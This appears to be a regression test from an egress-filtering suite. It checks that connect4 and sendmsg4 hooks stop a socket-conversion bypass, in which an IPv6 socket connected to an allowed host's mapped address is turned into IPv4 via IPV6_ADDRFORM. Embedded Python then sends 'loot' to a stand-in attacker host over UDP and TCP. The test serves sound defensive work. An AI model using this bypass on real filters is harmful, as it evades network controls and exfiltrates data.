#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: connects an IPv6 socket to the mapped address of an allowed host, makes it an IPv4 socket by IPV6_ADDRFORM and goes elsewhere
# stopped-by: connect4, sendmsg4
# reason: destination
# kernels: all
. "$(dirname "$0")/lib.sh"
arena tcp/443 udp/9000

attack_by <<'PYTHON'
from attacker import *

IPV6_ADDRFORM = 1

def turned(sock, port):
    sock.connect(("::ffff:" + GOOD4, port))
    sock.setsockopt(socket.IPPROTO_IPV6, IPV6_ADDRFORM, socket.AF_INET)
    return sock

def evil(port):
    return sockaddr4(EVIL4, port)

with attempt("udp, sendto"):
    sock, data = turned(udp(GOOD6), 9000), loot("sendto")
    check(LIBC.sendto(sock.fileno(), data, len(data), 0, evil(9000), 16))
with attempt("udp, connect"):
    sock = turned(udp(GOOD6), 9000)
    check(LIBC.connect(sock.fileno(), evil(9000), 16))
    sock.send(loot("udp"))
with attempt("tcp"):
    sock = turned(tcp(GOOD6, None), 443)
    disconnect(sock)
    check(LIBC.connect(sock.fileno(), evil(443), 16))
    sock.send(loot("tcp"))
PYTHON
works stolen:sendto stolen:udp stolen:tcp
gate
stopped
recorded connect4 destination
recorded sendmsg4 destination
